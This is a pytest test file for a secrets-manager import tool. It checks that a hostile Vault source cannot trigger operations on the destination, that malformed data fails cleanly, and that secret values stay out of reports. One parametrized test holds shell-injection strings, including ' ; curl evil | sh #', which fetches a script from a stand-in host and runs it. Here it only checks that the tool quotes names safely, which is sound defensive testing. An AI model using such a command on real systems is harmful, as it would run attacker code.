"""A hostile source, or one with another API, changes nothing but what is imported, and ends nothing but that object."""

from __future__ import annotations

import shlex
from typing import Any

import pytest

from strongroom.client.settings import Settings
from strongroom.client.values import encode
from strongroom.importing import running
from strongroom.importing.calling import Absent, Caller, Unreadable
from strongroom.importing.destination.destination import Destination
from strongroom.importing.destination.standing import Conflict
from strongroom.importing.inventory import Found, Kind, SourceFault
from strongroom.importing.journal import Journal, open_journal
from strongroom.importing.running import Import, Report, inventory
from strongroom.importing.selection import select
from strongroom.importing.summary import report_document, report_lines
from strongroom.importing.vault.source import VaultSource

_MOUNTS: dict[str, Any] = {"data": {"secret/": {"type": "kv", "options": {"version": "2"}}}}
_METHODS: dict[str, Any] = {"data": {"approle/": {"type": "approle"}, "userpass/": {"type": "userpass"}}}
_ONE_SECRET: dict[str, Any] = {"sys/mounts": _MOUNTS, "LIST secret/metadata/": {"data": {"keys": ["a"]}}}
_VALUE: dict[str, Any] = {"data": {"data": {"password": "hunter2-canary"}}}


class Answering(Caller):
    """A server that gives these answers, and notes what is put."""

    def __init__(self, answers: dict[str, Any], operations: frozenset[str] = frozenset()) -> None:
        super().__init__(Settings(address="http://127.0.0.1:1"))
        self.answers = answers
        self.operations = operations
        self.sent: list[str] = []

    def get(self, namespace: str, path: str, query: tuple[tuple[str, str], ...] = ()) -> dict[str, Any]:
        """The answer at a path."""
        if path in self.operations:
            raise Unreadable
        name = f"LIST {path}" if query == (("list", "true"),) else path
        if name not in self.answers:
            raise Absent
        return dict(self.answers[name])

    def put(self, namespace: str, path: str, body: Any) -> dict[str, Any]:
        """Note it."""
        self.sent.append(path)
        return {}


class Unseen:
    """Nobody looks how far it is."""

    def surveyed(self, number: int) -> None:
        """So many were found."""

    def done(self, number: int, total: int) -> None:
        """So many were done."""


def imported(source: Caller, destination: Answering, journal: Journal | None = None) -> Report:
    """All that the source says it has."""
    origin, target = VaultSource(source, select([], [])), Destination(destination, Conflict.SKIP)
    lines = inventory(origin, target, Unseen())
    return Import(origin, target, journal or Journal(None, {}, set()), Unseen()).run(lines)


def failures(report: Report) -> dict[str, str]:
    """What failed, and why."""
    outcomes = report.outcomes.values()
    return {each.name.path or each.name.mount: each.reason for each in outcomes if each.state.value == "failed"}


def test_a_name_is_no_operation() -> None:
    """Not a secret id for the destination's own role, not a new key for its tokens, not a lock of its API."""
    operations = {
        "auth/approle/role/web/custom-secret-id": {"secret_id": "known to who made the source"},
        "identity/oidc/key/default/rotate": {"verification_ttl": "0"},
        "sys/namespaces/api-lock/lock": {},
    }
    source = Answering(
        {
            "sys/auth": _METHODS,
            "LIST auth/approle/role": {"data": {"keys": ["web/custom-secret-id"]}},
            "LIST identity/oidc/key": {"data": {"keys": ["default/rotate"]}},
            "LIST sys/namespaces": {"data": {"keys": ["api-lock/lock"]}},
            **{path: {"data": body} for path, body in operations.items()},
        }
    )
    destination = Answering({"sys/mounts": _MOUNTS, "sys/auth": _METHODS}, frozenset(operations))
    failed = failures(imported(source, destination))
    assert [path.partition("/")[2] for path in failed if "operation" in failed[path]]
    assert len(failed) == 3
    assert not destination.sent


def test_a_mount_is_no_setting_of_another_one() -> None:
    """`sys/mounts/secret/tune` stands for the settings of `secret/`."""
    tuning = {"secret/tune/": {"type": "kv", "options": {"version": "2"}, "description": "changed"}}
    source = Answering({"sys/mounts": {"data": tuning}, "sys/auth": {"data": {"approle/tune/": {"type": "approle"}}}})
    destination = Answering({"sys/mounts": _MOUNTS, "sys/auth": _METHODS})
    assert set(failures(imported(source, destination))) == {"secret/tune/", "auth/approle/tune/"}
    assert not destination.sent


@pytest.mark.parametrize("name", ["$(touch x)", "`id`", " ; curl evil | sh #", "a'b", "x\ny"])
def test_a_command_that_is_shown_can_be_entered(name: str) -> None:
    """Whoever copies it into a shell runs that command, and nothing that the source has written into a name."""
    listing = {"data": {"keys": [name]}}
    source = Answering({"sys/auth": _METHODS, "LIST auth/userpass/users": listing})
    report = imported(source, Answering({"sys/mounts": _MOUNTS, "sys/auth": _METHODS}))
    (remedy,) = (each.remedy for each in report.outcomes.values() if each.name.path.startswith("users/"))
    assert shlex.split(remedy)[:3] == ["strongroom", "write", f"auth/userpass/users/{name}"]
    assert any("password=-" in line for line in report_lines(report))


@pytest.mark.parametrize(
    "answers",
    [
        {"sys/mounts": {"data": {"secret/": "x"}}},
        {"sys/mounts": {"data": {"secret/": {"type": "kv", "options": [1]}}}},
        {"sys/mounts": _MOUNTS, "LIST secret/metadata/": {"data": {"keys": 5}}},
        {"LIST sys/namespaces": {"data": {"keys": ["a/"], "key_info": [1]}}},
        {"LIST identity/entity/id": {"data": {"keys": ["e"], "key_info": {"e": "x"}}}},
    ],
)
def test_a_listing_of_another_form_is_told(answers: dict[str, Any]) -> None:
    """The inventory ends with an error that says so, and with no traceback."""
    with pytest.raises(SourceFault, match="isn't what the API says"):
        imported(Answering(answers), Answering({"sys/mounts": _MOUNTS}))


@pytest.mark.parametrize(
    "versions",
    [
        {"1": "x"},
        {"1": {}},
        ["x"],
        {"x": {}},
        {"9" * 5000: {}},
        {"1": {"created_time": "2020-01-01T00:00:00Z", "deletion_time": "x"}},
        {"1": {"created_time": "yesterday"}},
    ],
)
def test_a_secret_of_another_form_fails_alone(versions: object) -> None:
    """Also what is only read while it is written; the others still come, and no value is in the report."""
    source = Answering(
        {
            **_ONE_SECRET,
            "secret/metadata/a": {"data": {"created_time": "2020-01-01T00:00:00Z", "versions": versions}},
            "secret/data/a": _VALUE,
            "LIST sys/policies/acl": {"data": {"keys": ["p"]}},
            "sys/policies/acl/p": {"data": {"policy": "x"}},
        }
    )
    there = {"created_time": "2020-01-01T00:00:00Z", "versions": {"1": {"created_time": "2020-01-01T00:00:00Z"}}}
    present = {"secret/metadata/a": {"data": there}, "sys/policies/acl/p": {"data": {"policy": "x"}}}
    report = imported(source, Answering({"sys/mounts": _MOUNTS, **present}))
    assert set(failures(report)) == {"a"}
    assert any(each.name.kind is Kind.POLICY and each.state.value == "same" for each in report.outcomes.values())
    assert "canary" not in "\n".join(report_lines(report))


class Endless(Answering):
    """Each of its folders and namespaces has another one."""

    def get(self, namespace: str, path: str, query: tuple[tuple[str, str], ...] = ()) -> dict[str, Any]:
        """One folder in each, and one namespace."""
        if path.startswith("secret/metadata/") or path == "sys/namespaces":
            return {"data": {"keys": [f"{'a' * 100}/"]}}
        return super().get(namespace, path, query)


def test_folders_without_an_end_have_one() -> None:
    """Where no server keeps anything any more, the walk stops, and says so."""
    target = Destination(Answering({"sys/mounts": _MOUNTS}), Conflict.SKIP)
    lines = inventory(VaultSource(Endless({"sys/mounts": _MOUNTS}), select(["kv", "namespaces"], [])), target, Unseen())
    assert {found.name.kind for found in lines if not found.moves and _deep(found)} == {Kind.KV, Kind.NAMESPACE}


def _deep(found: Found) -> bool:
    return "longer than any server keeps" in found.reason


def test_any_name_can_be_noted(tmp_path: Any) -> None:
    """A half of a character pair, which JSON can hold and UTF-8 can't, doesn't end an import by its journal."""
    answers = {**_ONE_SECRET, "LIST secret/metadata/": {"data": {"keys": ["\ud800"]}}}
    for _ in range(2):
        with open_journal(tmp_path / "journal", "one", "other") as journal:
            report = imported(Answering(answers), Answering({"sys/mounts": _MOUNTS}), journal)
            assert any(each.name.path == "\ud800" for each in report.outcomes.values())
            assert "\ufffd" in encode(report_document(report))


def test_a_source_without_an_end_is_given_up(monkeypatch: pytest.MonkeyPatch) -> None:
    """The inventory is held in memory, so it has a bound."""
    monkeypatch.setattr(running, "MOST_OBJECTS", 3)
    names = {"data": {"keys": ["a", "b", "c", "d"]}}
    source = VaultSource(Answering({**_ONE_SECRET, "LIST secret/metadata/": names}), select([], []))
    with pytest.raises(SourceFault, match="more than 3 objects") as fault:
        inventory(source, Destination(Answering({}), Conflict.SKIP), Unseen())
    assert fault.value.ends
